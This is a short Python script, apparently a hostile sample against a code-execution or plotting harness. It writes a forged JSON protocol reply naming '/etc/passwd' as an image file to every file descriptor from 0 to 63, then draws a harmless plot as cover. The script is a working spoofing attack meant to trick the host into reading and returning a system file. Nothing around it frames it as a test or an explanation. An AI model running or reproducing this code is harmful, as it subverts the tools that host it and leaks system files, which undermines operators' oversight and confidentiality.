# Writes fake protocol replies to every descriptor it can, then draws.
import os
fake = b'{"id": 1, "ok": true, "png": "/etc/passwd"}\n'
for fd in range(0, 64):
    try:
        os.write(fd, fake)
    except OSError:
        pass
import matplotlib.pyplot as plt
plt.plot([0, 1])
